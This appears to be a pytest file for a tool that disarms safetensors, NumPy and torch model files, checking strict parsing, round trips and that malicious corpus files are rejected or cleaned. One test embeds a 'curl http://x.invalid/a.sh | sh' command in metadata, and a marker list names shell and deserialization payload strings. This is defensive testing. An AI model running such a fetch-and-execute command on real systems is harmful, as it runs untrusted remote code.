"""safetensors / NumPy inputs and the --to safetensors / --to npz outputs.

Round trips with Debian torch/numpy: the disarmed files load with the ordinary loaders
(safetensors output is checked with a tiny reference reader written here from the spec, with
python json+struct+numpy, and with our own strict reader by disarming it again), equal tensors.
Corpus files of these formats: malicious ones are rejected or disarmed without payload;
benign ones disarm to equal content (benign npy/npz loaded with allow_pickle=False only).
Never unpickle corpus files.
"""
from __future__ import annotations

import json
import struct
import subprocess
import zipfile
from pathlib import Path

import numpy as np
import pytest

from conftest import corpus_dir, disarm, explain, manifest_records, run_cli, torch_python, torch_python_major

RECORDS = [r for r in manifest_records() if r.get("format") in ("safetensors", "npy", "npz")]
MALICIOUS = [r for r in RECORDS if r.get("label") == "malicious"]
BENIGN = [r for r in RECORDS if r.get("label") == "benign"]

ST_DTYPES = {"BOOL": np.bool_, "U8": np.uint8, "I8": np.int8, "I16": np.int16, "U16": np.uint16,
             "F16": np.float16, "I32": np.int32, "U32": np.uint32, "F32": np.float32, "F64": np.float64,
             "I64": np.int64, "U64": np.uint64, "C64": np.complex64}


def ref_read_safetensors(path):
    """Reference reader from the spec (docs/FORMATS.md §6), strict: returns (metadata, {name: array})."""
    b = Path(path).read_bytes()
    assert len(b) >= 8
    n = struct.unpack("<Q", b[:8])[0]
    assert n <= 100_000_000 and 8 + n <= len(b)
    assert n % 8 == 0, "writer pads the header to a multiple of 8"
    raw = b[8:8 + n]
    assert raw[:1] == b"{"
    pairs_seen = []

    def hook(pairs):
        keys = [k for k, _ in pairs]
        assert len(keys) == len(set(keys)), "duplicate keys"
        pairs_seen.append(keys)
        return dict(pairs)

    hdr = json.loads(raw.decode("utf-8"), object_pairs_hook=hook)
    meta = hdr.pop("__metadata__", None)
    if meta is not None:
        assert all(isinstance(k, str) and isinstance(v, str) for k, v in meta.items())
        assert list(json.loads(raw.decode(), object_pairs_hook=lambda p: [k for k, _ in p]))[0] == "__metadata__"
    buf = b[8 + n:]
    ents = sorted(hdr.items(), key=lambda kv: kv[1]["data_offsets"])
    pos = 0
    out = {}
    for name, e in ents:
        s, t = e["data_offsets"]
        assert s == pos and t >= s
        dt = np.dtype(ST_DTYPES[e["dtype"]])
        count = int(np.prod(e["shape"], dtype=np.int64)) if e["shape"] else 1
        assert t - s == count * dt.itemsize
        out[name] = np.frombuffer(buf[s:t], dtype=dt).reshape(e["shape"])
        pos = t
    assert pos == len(buf), "file not fully covered"
    return meta, out


def write_safetensors(path, tensors, metadata=None, raw_header=None, tail=b""):
    """Minimal writer for test inputs (numpy arrays)."""
    rev = {np.dtype(v): k for k, v in ST_DTYPES.items()}
    hdr = {}
    if metadata is not None:
        hdr["__metadata__"] = metadata
    data = b""
    for k, a in tensors.items():
        a = np.asarray(a)
        if not a.flags.c_contiguous:
            a = a.copy(order="C")
        hdr[k] = {"dtype": rev[a.dtype], "shape": list(a.shape), "data_offsets": [len(data), len(data) + a.nbytes]}
        data += a.tobytes()
    h = raw_header if raw_header is not None else json.dumps(hdr).encode()
    h += b" " * ((8 - len(h) % 8) % 8)
    Path(path).write_bytes(struct.pack("<Q", len(h)) + h + data + tail)


def torch_run(code, *args):
    p = subprocess.run([torch_python(), "-c", code, *map(str, args)], capture_output=True, timeout=300)
    assert p.returncode == 0, p.stderr.decode()[-3000:]
    return p.stdout.decode()


# ----------------------------------------------------------------------------------------------- safetensors in

def test_safetensors_roundtrip_pt_and_safetensors(cdr_bin, tmp_path):
    rng = np.random.default_rng(0)
    t = {"w": rng.standard_normal((4, 5)).astype(np.float32), "b": np.arange(7, dtype=np.int64),
         "h": rng.standard_normal(3).astype(np.float16), "s": np.array(2.5, dtype=np.float64),
         "e": np.zeros((0, 3), np.float32), "m": np.array([True, False])}
    src = tmp_path / "in.safetensors"
    write_safetensors(src, t, metadata={"format": "pt", "note": "hello"})
    out = tmp_path / "out.safetensors"
    rc, so, se, _ = disarm(src, out, "--to", "safetensors")
    assert rc == 0, explain(rc, so, se)
    meta, got = ref_read_safetensors(out)
    assert meta["format"] == "pt" and meta["note"] == "hello"
    assert set(got) == set(t)
    for k in t:
        assert got[k].shape == t[k].shape and np.array_equal(got[k], t[k])
    # our own strict reader accepts what we wrote
    rc, so, se, _ = disarm(out, tmp_path / "again.safetensors", "--to", "safetensors")
    assert rc == 0, explain(rc, so, se)
    # default output: a torch checkpoint that torch.load(weights_only=True) reads
    pt = tmp_path / "out.pt"
    rc, so, se, rep = disarm(src, pt, "--compat", "torch1.13", report=tmp_path / "r.json")  # loads in torch 1.13 and 2.x
    # __metadata__ has no place in a torch checkpoint: dropped, so it counts as removed
    assert rc == 1, explain(rc, so, se)
    assert [f["rule"] for f in rep["files"][0]["removed"]] == ["convert.metadata-dropped"], rep
    np.savez(tmp_path / "expect.npz", **t)
    torch_run("""
import sys, torch, numpy as np
sd = torch.load(sys.argv[1], weights_only=True)
exp = np.load(sys.argv[2], allow_pickle=False)
assert set(sd) == set(exp.files), (set(sd), exp.files)
for k in exp.files:
    assert np.array_equal(sd[k].numpy(), exp[k]), k
""", pt, tmp_path / "expect.npz")


BAD_HEADERS = {
    "duplicate-key": b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
    "lowercase-dtype": b'{"a":{"dtype":"f32","shape":[1],"data_offsets":[0,4]}}',
    "gap": b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}',
    "size-mismatch": b'{"a":{"dtype":"F32","shape":[2],"data_offsets":[0,4]}}',
    "overlap": b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
    "metadata-not-string": b'{"__metadata__":{"x":1},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
    "negative-shape": b'{"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}}',
    "float-offset": b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4.0]}}',
    "dup-metadata-key": b'{"__metadata__":{"x":"1","x":"2"},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}',
}


@pytest.mark.parametrize("case", sorted(BAD_HEADERS))
def test_safetensors_strict_rejects(cdr_bin, tmp_path, case):
    src = tmp_path / "bad.safetensors"
    data = b"\0" * 4 if case != "overlap" else b"\0" * 4
    h = BAD_HEADERS[case]
    h += b" " * ((8 - len(h) % 8) % 8)
    src.write_bytes(struct.pack("<Q", len(h)) + h + data)
    out = tmp_path / "out.safetensors"
    rc, so, se, _ = disarm(src, out, "--to", "safetensors")
    assert rc == 2 and not out.exists(), explain(rc, so, se)


def test_safetensors_trailing_bytes_rejected(cdr_bin, tmp_path):
    src = tmp_path / "t.safetensors"
    write_safetensors(src, {"a": np.ones(2, np.float32)}, tail=b"EVIL")
    rc, so, se, _ = disarm(src, tmp_path / "o.safetensors", "--to", "safetensors")
    assert rc == 2, explain(rc, so, se)


def test_safetensors_shell_metadata_dropped(cdr_bin, tmp_path):
    src = tmp_path / "m.safetensors"
    write_safetensors(src, {"a": np.ones(2, np.float32)},
                      metadata={"cmd": "curl http://x.invalid/a.sh | sh", "ok": "fine", "big": "A" * 70000})
    out = tmp_path / "o.safetensors"
    rc, so, se, rep = disarm(src, out, "--to", "safetensors", report=tmp_path / "r.json")
    assert rc == 1, explain(rc, so, se)
    meta, got = ref_read_safetensors(out)
    assert meta.get("ok") == "fine" and "cmd" not in meta and "big" not in meta
    rules = json.dumps(rep)
    assert "safetensors.metadata-shell" in rules and "safetensors.metadata-oversized" in rules


# ------------------------------------------------------------------------------------------ torch -> safetensors

def test_torch_to_safetensors_tied_and_noncontiguous(cdr_bin, tmp_path):
    src = tmp_path / "ckpt.pt"
    torch_run("""
import sys, torch
torch.manual_seed(0)
w = torch.randn(6, 4)
sd = {"emb.weight": w, "head.weight": w, "t": torch.randn(3, 5).t(), "i": torch.arange(10)[2:8],
      "epoch": 3, "lr": 0.5, "name": "x"}
torch.save(sd, sys.argv[1])
""", src)
    out = tmp_path / "ckpt.safetensors"
    rc, so, se, rep = disarm(src, out, "--to", "safetensors", report=tmp_path / "r.json")
    assert rc in (0, 1), explain(rc, so, se)
    meta, got = ref_read_safetensors(out)
    aliases = json.loads(meta["modelcdr.aliases"])
    assert aliases == {"head.weight": "emb.weight"}
    extra = json.loads(meta["modelcdr.extra"])
    assert extra == {"epoch": 3, "lr": 0.5, "name": "x"}
    np.savez(tmp_path / "got.npz", **got)
    torch_run("""
import sys, torch, numpy as np
# the test's own file; torch 1.13's weights_only loader lacks BINFLOAT, 2.x's reads it
sd = torch.load(sys.argv[1], weights_only=int(torch.__version__.split(".")[0]) >= 2)
got = np.load(sys.argv[2], allow_pickle=False)
assert set(got.files) == {"emb.weight", "t", "i"}, got.files
for k in got.files:
    assert np.array_equal(sd[k].contiguous().numpy(), got[k]), k
assert np.array_equal(sd["head.weight"].numpy(), got["emb.weight"])
""", src, tmp_path / "got.npz")
    assert "convert.made-contiguous" in json.dumps(rep)


def test_hf_sharded_directory_to_safetensors(cdr_bin, tmp_path):
    d = tmp_path / "hf"
    d.mkdir()
    torch_run("""
import sys, json, torch, os
d = sys.argv[1]
torch.manual_seed(1)
s1 = {"a.weight": torch.randn(3, 3), "a.bias": torch.randn(3)}
s2 = {"b.weight": torch.randn(2, 3)}
torch.save(s1, os.path.join(d, "pytorch_model-00001-of-00002.bin"))
torch.save(s2, os.path.join(d, "pytorch_model-00002-of-00002.bin"))
wm = {k: "pytorch_model-00001-of-00002.bin" for k in s1}
wm.update({k: "pytorch_model-00002-of-00002.bin" for k in s2})
json.dump({"metadata": {"total_size": 60}, "weight_map": wm}, open(os.path.join(d, "pytorch_model.bin.index.json"), "w"))
json.dump({"model_type": "toy", "hidden_size": 3}, open(os.path.join(d, "config.json"), "w"))
open(os.path.join(d, "blob.raw"), "wb").write(b"\\x00\\x01junk")
""", d)
    out = tmp_path / "out"
    rc, so, se, _ = disarm(d, out, "--to", "safetensors")
    assert rc == 0, explain(rc, so, se)
    names = sorted(p.name for p in out.iterdir())
    assert "model-00001-of-00002.safetensors" in names and "model-00002-of-00002.safetensors" in names
    assert "config.json" in names and "model.safetensors.index.json" in names
    assert not any(n.endswith(".bin") for n in names) and "blob.raw" not in names
    assert json.loads((out / "config.json").read_text()) == {"model_type": "toy", "hidden_size": 3}
    idx = json.loads((out / "model.safetensors.index.json").read_text())
    assert idx["weight_map"] == {"a.weight": "model-00001-of-00002.safetensors", "a.bias": "model-00001-of-00002.safetensors",
                                 "b.weight": "model-00002-of-00002.safetensors"}
    assert idx["metadata"]["total_size"] == 60
    for shard in set(idx["weight_map"].values()):
        ref_read_safetensors(out / shard)
    torch_run("""
import sys, json, os, torch, numpy as np, struct
d, o = sys.argv[1], sys.argv[2]
idx = json.load(open(os.path.join(o, "model.safetensors.index.json")))
for k, shard in idx["weight_map"].items():
    b = open(os.path.join(o, shard), "rb").read()
    n = struct.unpack("<Q", b[:8])[0]
    h = json.loads(b[8:8+n])[k]
    s, e = h["data_offsets"]
    t = torch.frombuffer(bytearray(b[8+n+s:8+n+e]), dtype=torch.float32).reshape(h["shape"])
    src = torch.load(os.path.join(d, shard.replace("model", "pytorch_model", 1).replace(".safetensors", ".bin")), weights_only=True)
    assert torch.equal(src[k], t), k
""", d, out)


# ------------------------------------------------------------------------------------------------------- numpy

def test_npy_npz_roundtrips(cdr_bin, tmp_path):
    rng = np.random.default_rng(2)
    arrays = {"f": rng.standard_normal((3, 4)).astype(np.float32), "i": np.arange(12, dtype=">i4").reshape(3, 4),
              "F": np.asfortranarray(rng.standard_normal((2, 5))), "c": (rng.standard_normal(3) + 1j).astype(np.complex64),
              "b": np.array([True, False, True]), "z": np.array(7, dtype=np.uint16)}
    for name, a in arrays.items():
        src = tmp_path / f"{name}.npy"
        np.save(src, a)
        for to, ext in (("npz", ".npz"), ("safetensors", ".safetensors"), ("pt", ".pt")):
            # uint16 tensors need torch 2.x (_rebuild_tensor_v3): the default mode, read by 2.x;
            # under torch 1.13 the .pt output is written with --compat torch1.13 and uint16 is left out
            if to == "pt" and a.dtype == np.uint16 and torch_python_major() < 2:
                continue
            out = tmp_path / f"{name}.out{ext}"
            compat = ["--compat", "torch1.13"] if to == "pt" and torch_python_major() < 2 else []
            rc, so, se, _ = disarm(src, out, "--to", to, *compat)
            assert rc == 0, explain(rc, so, se)
            if to == "npz":
                got = np.load(out, allow_pickle=False)["arr_0"]
            elif to == "safetensors":
                got = ref_read_safetensors(out)[1]["arr_0"]
            else:
                np.save(tmp_path / "expect.npy", a)
                torch_run("""
import sys, torch, numpy as np
t = torch.load(sys.argv[1], weights_only=True)
assert np.array_equal(t.numpy(), np.load(sys.argv[2], allow_pickle=False))
""", out, tmp_path / "expect.npy")
                continue
            assert got.shape == a.shape and np.array_equal(got, a.astype(a.dtype.newbyteorder("<"))), (name, to)
    src = tmp_path / "many.npz"
    np.savez_compressed(src, **arrays)
    out = tmp_path / "many.out.npz"
    rc, so, se, _ = disarm(src, out, "--to", "npz")
    assert rc == 0, explain(rc, so, se)
    got = np.load(out, allow_pickle=False)
    assert set(got.files) == set(arrays)
    for k, a in arrays.items():
        assert np.array_equal(got[k], a)


def test_npy_header_tricks(cdr_bin, tmp_path):
    a = np.arange(4, dtype="<i4")
    hdr = b"{'descr': '<i4', 'fortran_order': False, 'shape': (4,), }"
    # length field shorter than the padded header: data starts inside the padding
    body = hdr + b"  \n"
    bad = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(body)) + body + a.tobytes()
    src = tmp_path / "lie.npy"
    src.write_bytes(bad)
    out = tmp_path / "lie.out.npz"
    rc, so, se, rep = disarm(src, out, "--to", "npz", report=tmp_path / "r.json")
    assert rc == 1 and "npy.header-alignment" in json.dumps(rep), explain(rc, so, se)
    assert np.array_equal(np.load(out, allow_pickle=False)["arr_0"], a)
    # non-space padding, extra key, duplicate key, expression instead of literal: refused or reported
    for n, (body, ok) in enumerate(((hdr + b"#pad\n", True), (hdr[:-1] + b"'x': 1, }\n", False),
                     (b"{'descr': '<i4', 'descr': '<i4', 'fortran_order': False, 'shape': (4,), }\n", False),
                     (b"{'descr': '<i4', 'fortran_order': False, 'shape': (2*2,), }\n", False),
                     (b"{'descr': '<i4', 'fortran_order': False, 'shape': (5,), }\n", False))):
        src.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(body)) + body + a.tobytes())
        out = tmp_path / f"t{n}.npz"
        rc, so, se, _ = disarm(src, out, "--to", "npz")
        assert (rc == 1) if ok else (rc == 2 and not out.exists()), (body, explain(rc, so, se))


# ------------------------------------------------------------------------------------------------------ corpus

def params(recs):
    return [pytest.param(r, id=r["path"]) for r in recs] or [pytest.param(None, marks=pytest.mark.skip("no corpus"))]


def payload_markers(rec):
    marks = []
    s = rec.get("payload_summary", "")
    for m in ("rm -rf", "wget", "chmod", "system", "PWNED", "marshal", "b64decode", "get_server_certificate", "FunctionType"):
        if m in s:
            marks.append(m.encode())
    return marks


@pytest.mark.parametrize("rec", params(MALICIOUS))
def test_corpus_malicious(cdr_bin, corpus, tmp_path, rec):
    src = corpus / rec["path"]
    tos = ["pt", "safetensors"] + (["npz"] if rec["format"] in ("npy", "npz") else [])
    for to in tos:
        out = tmp_path / f"out.{to}"
        rc, so, se, _ = disarm(src, out, "--to", to)
        assert rc in (1, 2), explain(rc, so, se)
        if rc == 2:
            assert not out.exists()
            continue
        data = out.read_bytes()
        for m in payload_markers(rec):
            assert m not in data, (to, m)
        if to == "safetensors":
            ref_read_safetensors(out)
        if to == "npz":
            np.load(out, allow_pickle=False)
    rc, so, se = run_cli("scan", src)
    assert rc != 0, explain(rc, so, se)


@pytest.mark.parametrize("rec", params(BENIGN))
def test_corpus_benign(cdr_bin, corpus, tmp_path, rec):
    src = corpus / rec["path"]
    fmt = rec["format"]
    if fmt == "safetensors":
        out = tmp_path / "out.safetensors"
        rc, so, se, _ = disarm(src, out, "--to", "safetensors")
        assert rc == 0, explain(rc, so, se)
        m_in, t_in = ref_read_safetensors(src)
        m_out, t_out = ref_read_safetensors(out)
        assert set(t_in) == set(t_out)
        for k in t_in:
            assert t_in[k].tobytes() == t_out[k].tobytes() and t_in[k].shape == t_out[k].shape
        for k, v in (m_in or {}).items():
            assert m_out.get(k) == v
        rc, so, se, _ = disarm(src, tmp_path / "out.pt")
        assert rc in (0, 1), explain(rc, so, se)
        return
    raw = src.read_bytes()
    is_object = b"'O" in raw[:200] or b"|O" in raw[:200]
    if fmt == "npz":
        with zipfile.ZipFile(src) as z:
            is_object = any(b"'|O" in z.read(n)[:200] or b"'<O" in z.read(n)[:200] for n in z.namelist())
    out = tmp_path / "out.npz"
    rc, so, se, _ = disarm(src, out, "--to", "npz")
    if is_object:
        # object arrays are pickles: they go through the pickle policy (numpy reconstruct is not a
        # tensor shape the lifter knows) and are never written back as pickles
        assert rc in (1, 2), explain(rc, so, se)
        if rc == 1:
            np.load(out, allow_pickle=False)
        return
    assert rc == 0, explain(rc, so, se)
    exp = np.load(src, allow_pickle=False)
    got = np.load(out, allow_pickle=False)
    if fmt == "npy":
        assert np.array_equal(got["arr_0"], exp) and got["arr_0"].dtype == exp.dtype.newbyteorder("<")
    else:
        assert set(got.files) == set(exp.files)
        for k in exp.files:
            assert np.array_equal(got[k], exp[k])
